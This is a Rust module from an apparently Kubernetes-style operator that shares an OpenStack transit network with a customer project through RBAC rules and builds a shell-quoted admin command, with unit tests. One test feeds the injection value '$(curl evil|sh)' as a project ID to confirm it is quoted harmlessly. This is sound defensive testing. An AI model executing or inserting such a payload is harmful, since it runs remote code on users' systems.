//! TransitNetworkShared (cross-tenant only): the transit network shared with the customer
//! project by an RBAC `access_as_shared` rule on the operator's credential, or found visible
//! to the customer when that is refused or collides with a rule someone else made.
//!
//! The engine's share step (`share::ensure`) calls these rules, after the customer's router was
//! found and before the leg (docs/design.md, "A cross-tenant link").

use bnerd_api::Reason;
use bnerd_api::echo::shell_word;
use bnerd_cloud::{ACCESS_AS_SHARED, CloudError, NeutronErrorKind, RbacPolicy};

use super::StepFail;

/// Which credential a failure message names: on a cross-tenant link a failure message opens
/// with the prefix `customer credential (secret <ns>/<name>): ` or with
/// `operator credential: ` (docs/crd-reference.md, "Conditions").
#[derive(Debug, Clone, Copy)]
pub enum Credential<'a> {
    Operator,
    /// The customer's, by its Secret `ns/name`.
    Customer(&'a str),
}

/// Whose credential a call or a write is made with: the operator's, or (cross-tenant) the
/// customer's, which builds a link's leg side.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Whose {
    Operator,
    Customer,
}

impl Whose {
    /// As failure messages and plans name it (`Credential::prefix`).
    pub fn as_str(&self) -> &'static str {
        match self {
            Whose::Operator => OPERATOR_CREDENTIAL,
            Whose::Customer => CUSTOMER_CREDENTIAL,
        }
    }
}

/// How messages and plans name the operator's credential.
pub const OPERATOR_CREDENTIAL: &str = "operator credential";
/// How messages and plans name a customer's credential.
pub const CUSTOMER_CREDENTIAL: &str = "customer credential";

impl Credential<'_> {
    pub fn prefix(self) -> String {
        match self {
            Credential::Operator => format!("{OPERATOR_CREDENTIAL}: "),
            Credential::Customer(s) => format!("{CUSTOMER_CREDENTIAL} (secret {s}): "),
        }
    }
}

/// The one-time command an OpenStack admin runs when the operator may not share. The project
/// comes from the spec (anything an older CRD admitted) and the network from the cloud: each
/// is one shell word, so pasting the command never runs what a value smuggled in.
pub fn share_command(project: &str, network: &str) -> String {
    format!(
        "openstack network rbac create --type network --action {ACCESS_AS_SHARED} --target-project {} {}",
        shell_word(project),
        shell_word(network)
    )
}

/// Whether one of the operator's own rules already shares the network with the project (then
/// a resync writes nothing).
pub fn already_shared(own: &[RbacPolicy], network: &str, project: &str) -> bool {
    own.iter().any(|p| {
        p.object_type == "network"
            && p.object_id == network
            && p.action == ACCESS_AS_SHARED
            && p.target_tenant == project
    })
}

/// Listing the operator's own rules failed.
pub fn list_failed(e: &CloudError) -> StepFail {
    StepFail::cloud(
        Reason::EnsureNetworkSharedFailed,
        &format!(
            "{}listing the transit network's RBAC rules",
            Credential::Operator.prefix()
        ),
        e,
    )
}

/// What follows the create attempt on the operator's credential.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AfterCreate {
    Shared,
    /// The create was refused for lack of permission, or collided with a rule someone else
    /// owns: check whether the customer can already see the network.
    CheckVisibility,
    Failed(StepFail),
}

pub fn after_create(res: Result<(), &CloudError>) -> AfterCreate {
    match res {
        Ok(()) => AfterCreate::Shared,
        Err(e) if e.status() == Some(403) || e.is(NeutronErrorKind::DuplicateRbacPolicy) => {
            AfterCreate::CheckVisibility
        }
        Err(e) => AfterCreate::Failed(StepFail::cloud(
            Reason::EnsureNetworkSharedFailed,
            &format!(
                "{}sharing the transit network with the customer project",
                Credential::Operator.prefix()
            ),
            e,
        )),
    }
}

/// The verdict after the customer credential looked at the network (`GET /networks/{id}`):
/// visible → Shared; not found → TransitNetworkNotShared with the command; anything else →
/// NetworkVisibilityCheckFailed.
pub fn after_visibility(
    res: Result<(), &CloudError>,
    network: &str,
    project: &str,
    secret: &str,
) -> Result<String, StepFail> {
    match res {
        Ok(()) => Ok(shared_message(network, project)),
        Err(e) if e.is_not_found() => Err(StepFail::terminal(
            Reason::TransitNetworkNotShared,
            format!(
                "{}the transit network {network} is not shared with project {project} and the operator credential may not share it; an OpenStack admin runs once: {}",
                Credential::Operator.prefix(),
                share_command(project, network)
            ),
        )),
        Err(e) => Err(StepFail::cloud(
            Reason::NetworkVisibilityCheckFailed,
            &format!(
                "{}checking whether the transit network {network} is visible to the customer project",
                Credential::Customer(secret).prefix()
            ),
            e,
        )),
    }
}

/// TransitNetworkShared=True's message.
pub fn shared_message(network: &str, project: &str) -> String {
    format!("transit network {network} is shared with project {project}")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn api(status: u16, kind: &str) -> CloudError {
        CloudError::Api {
            method: "POST".into(),
            path: "/rbac-policies".into(),
            status,
            kind: kind.into(),
            message: "m".into(),
        }
    }

    #[test]
    fn an_own_rule_means_no_write() {
        let p = RbacPolicy {
            id: "r".into(),
            object_type: "network".into(),
            object_id: "net".into(),
            action: ACCESS_AS_SHARED.into(),
            target_tenant: "cust".into(),
            project_id: "op".into(),
        };
        assert!(already_shared(std::slice::from_ref(&p), "net", "cust"));
        assert!(!already_shared(std::slice::from_ref(&p), "net", "other"));
        assert!(!already_shared(&[], "net", "cust"));
    }

    #[test]
    fn create_outcomes() {
        assert_eq!(after_create(Ok(())), AfterCreate::Shared);
        // A 403 leads to the visibility check, made with the customer credential.
        assert_eq!(
            after_create(Err(&api(403, "PolicyNotAuthorized"))),
            AfterCreate::CheckVisibility
        );
        // A 409 DuplicateRbacPolicy (an admin's rule already shares it) is no error either:
        // the visibility check decides.
        assert_eq!(
            after_create(Err(&api(409, "DuplicateRbacPolicy"))),
            AfterCreate::CheckVisibility
        );
        // Any other failure of the create is EnsureNetworkSharedFailed.
        match after_create(Err(&api(500, ""))) {
            AfterCreate::Failed(f) => {
                assert_eq!(f.reason, Reason::EnsureNetworkSharedFailed);
                assert!(f.retryable && f.message.starts_with("operator credential: "));
            }
            other => panic!("{other:?}"),
        }
    }

    /// A project ID that is not a plain word reaches the pasted command as one quoted word.
    #[test]
    fn the_share_command_quotes_what_it_interpolates() {
        assert_eq!(
            share_command("$(curl evil|sh)", "net"),
            "openstack network rbac create --type network --action access_as_shared --target-project '$(curl evil|sh)' net"
        );
        assert_eq!(
            share_command("0123456789abcdef0123456789abcdef", "n 1"),
            "openstack network rbac create --type network --action access_as_shared --target-project 0123456789abcdef0123456789abcdef 'n 1'"
        );
    }

    #[test]
    fn visibility_outcomes() {
        let s = "bnerd-vpn-clusterlinks/clusterlink-x";
        assert!(after_visibility(Ok(()), "net", "cust", s).is_ok());
        // TransitNetworkNotShared: the message holds the command an admin runs once.
        let f = after_visibility(Err(&api(404, "NetworkNotFound")), "net", "cust", s).unwrap_err();
        assert_eq!(f.reason, Reason::TransitNetworkNotShared);
        assert!(f.message.contains(
            "openstack network rbac create --type network --action access_as_shared --target-project cust net"
        ));
        // NetworkVisibilityCheckFailed: the create was refused or collided, and then the
        // customer's own look at the network failed too.
        let f = after_visibility(Err(&api(503, "")), "net", "cust", s).unwrap_err();
        assert_eq!(f.reason, Reason::NetworkVisibilityCheckFailed);
        assert!(
            f.message
                .starts_with("customer credential (secret bnerd-vpn-clusterlinks/clusterlink-x): ")
        );
    }
}
